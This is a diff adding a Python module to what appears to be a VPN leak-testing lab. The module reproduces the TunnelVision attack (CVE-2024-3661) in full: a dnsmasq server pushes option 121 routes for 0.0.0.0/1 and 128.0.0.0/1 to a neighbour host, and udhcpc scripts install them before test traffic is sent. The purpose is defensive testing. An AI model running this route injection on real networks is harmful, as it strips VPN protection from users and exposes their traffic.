@@ -1,0 +1,97 @@
+"""A11: the network's own DHCP server gives routes that lead around the tunnel (TunnelVision)."""
+
+from __future__ import annotations
+
+import ipaddress
+
+from psiphon_lab.addresses import LAN_A, NEIGHBOUR4
+from psiphon_lab.attacks._send import volley
+from psiphon_lab.leaktest.arena import Arena
+from psiphon_lab.leaktest.attack import Actor, Attack, Mode
+from psiphon_lab.namespace import LabError
+
+HALVES = ("0.0.0.0/1", "128.0.0.0/1")
+# What distributions' own scripts do with the option: an address if there is none, and every route, by the wire.
+APPLY = """#!/bin/sh
+[ "$1" = bound ] || [ "$1" = renew ] || exit 0
+set -- $staticroutes
+while [ -n "$2" ]; do ip route replace "$1" via "$2" dev "$interface" metric 5; shift 2; done
+"""
+DHCLIENT = """#!/bin/sh
+case "$reason" in BOUND | RENEW | REBOOT | REBIND) ;; *) exit 0 ;; esac
+for half in 0.0.0.0/1 128.0.0.0/1; do ip route replace $half via {attacker} dev "$interface" metric 5; done
+"""
+
+
+def serve_routes(arena: Arena) -> None:
+    """A real dnsmasq on the provider's LAN, with option 121 to the attacker: the neighbour."""
+    routes = ",".join(f"{half},{NEIGHBOUR4}" for half in HALVES)
+    network = ipaddress.ip_network(LAN_A.network4)
+    lease = str(arena.scratch("leases"))
+    arena.spawn(
+        [
+            "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--port=0", "--interface=lan",
+            "--bind-interfaces", "--user=root", f"--dhcp-leasefile={lease}", "--dhcp-authoritative", "--no-ping",
+            f"--dhcp-range={network[10]},{network[100]},{network.netmask},10m",
+            f"--dhcp-host={LAN_A.mac},{LAN_A.client4}", f"--dhcp-option=121,{routes}",
+        ],
+        host=arena.stage.world.provider_a,
+    )  # fmt: skip
+    arena.wait(0.15)
+
+
+def forget_routes(arena: Arena) -> None:
+    """What the attack leaves in the main table goes with it."""
+    for half in HALVES:
+        arena.undo("ip", "route", "del", half, "metric", "5")
+
+
+def require_routes(arena: Arena) -> None:
+    """The attack counts only if the routes came. While the cable is pulled again and again they may not."""
+    routes = arena.client.run(["ip", "route"]).stdout
+    there = all(half in routes for half in HALVES)
+    arena.say("0.0.0.0/1 and 128.0.0.0/1 came by DHCP" if there else "the routes did not come")
+    if not there and arena.mode is not Mode.TRANSITION:
+        raise LabError("the routes did not come by DHCP")
+
+
+def run(arena: Arena) -> None:
+    """Udhcpc asks, dnsmasq answers with 0.0.0.0/1 and 128.0.0.0/1 by the neighbour; programs try to get out."""
+    serve_routes(arena)
+    forget_routes(arena)
+    script = arena.scratch("udhcpc.sh", APPLY, mode=0o755)
+    arena.run(
+        "timeout",
+        "6",
+        "udhcpc",
+        "-i",
+        LAN_A.interface,
+        "-s",
+        str(script),
+        "-n",
+        "-q",
+        "-f",
+        "-t",
+        "3",
+        "-T",
+        "1",
+        "-O",
+        "121",
+    )
+    require_routes(arena)
+    volley(arena, "with the routes")
+
+
+ATTACK = Attack(
+    id="A11",
+    name="routes by DHCP (udhcpc)",
+    reference="TunnelVision, CVE-2024-3661 (RFC 3442)",
+    plain="The local network answers the computer's request for an address with routes that are more exact than the "
+    "VPN's, so that traffic would leave by the network card, unencrypted.",
+    actors=(Actor.PROVIDER, Actor.NEIGHBOUR),
+    recognised="by source port or a token in the payload",
+    control="the same packets with the same routes, without the lock",
+    run=run,
+    families=(4,),
+    tools=("dnsmasq", "udhcpc", "timeout"),
+)
